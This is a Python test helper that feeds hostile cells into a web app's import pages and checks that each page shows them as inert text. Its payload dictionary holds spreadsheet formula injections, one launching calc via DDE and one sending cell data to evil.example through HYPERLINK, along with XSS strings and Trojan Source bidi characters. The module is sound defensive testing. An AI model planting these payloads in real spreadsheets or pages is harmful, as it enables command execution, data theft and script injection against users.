"""Hostile cells for the import pages: what a partner's file may hold, and how to check that every
page of the import (columns, preview, refusals, result) shows it as inert text.

Each import test writes these into every column of a file, walks the shared import pages, and
checks each page with the moderation checker (`active_content`: no element, attribute or URL that
could run), plus the things a checker of markup cannot see: bidi controls that would reorder the
page's text, NUL and other control characters, and a page that grew with a huge cell.
"""

import html
import re
from urllib.parse import urlsplit

from moderation.hostile import active_content
from sqlalchemy import select

from consult.core.imports.models import ImportBatch
from consult.extensions import db

#: What a spreadsheet runs, what a browser runs, what reorders text, what breaks parsers.
HOSTILE_CELLS = {
    "formula": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "plus": "+33 1 02 03 04 05",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "handler": "<a href=# onclick=alert(1)>x</a>",
    "bidi": "Claire \u202eenilrac\u202c \u2066Martin\u2069",
    # a few controls in ordinary text (a file full of them is refused as binary before reading)
    "controls": "Cla\x07ire\x1b[31m Martin\x0b " + "de Nantes " * 40,
    "huge": "Claire " + "A" * 30_000,  # in a dozen cells: a file under the 500 KB spooling
}

#: Unicode bidi embeddings, overrides and isolates (the Trojan Source characters).
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def assert_inert(page: str, value: str, *, largest: int = 60_000) -> None:
    """The page shows ``value`` (if at all) as text: nothing runs, reorders or bloats."""
    # the application's own disclosure menus are <details>; an injected one would need an
    # on* attribute or a script to do anything, which the checker reports on their own
    problems = [p for p in active_content(page) if p != "<details> element"]
    assert not problems, problems[:3]
    assert "<script>alert" not in page and "<img src=x" not in page and "<a href=#" not in page
    assert not BIDI_CONTROLS.search(page), "a bidi control reached the page"
    assert not CONTROLS.search(page), "a control character reached the page"
    assert len(page) < largest, f"the page is {len(page)} characters long: {page[:300]}"


def walk_import(client, uploaded, mapping=None):
    """From an upload's answer, go through the shared pages; return every page seen, as text.

    ``mapping`` chooses the columns (else the proposed ones); the preview is confirmed when it
    may be, so the result page is seen too.
    """
    assert uploaded.status_code in (302, 303), uploaded.status_code
    columns_url = urlsplit(uploaded.headers["Location"]).path
    pages = [client.get(columns_url)]
    batch = db.session.scalar(select(ImportBatch).order_by(ImportBatch.id.desc()))
    chosen = mapping if mapping is not None else batch.mapping
    answer = client.post(
        columns_url, data={f"column-{i}": key or "" for i, key in enumerate(chosen)}
    )
    pages.append(answer)
    if answer.status_code in (302, 303):
        show = urlsplit(answer.headers["Location"]).path
        pages.append(client.get(show))
        confirmed = client.post(show + "/confirm")
        if confirmed.status_code in (302, 303):
            pages.append(client.get(urlsplit(confirmed.headers["Location"]).path))
    uploaded.close()  # a large upload's input stream is a temporary file
    for page in pages:
        assert page.status_code < 500, page.status_code
    return [page.get_data(as_text=True) for page in pages]


def text(page: str) -> str:
    """A page as a person reads it."""
    return html.unescape(page)
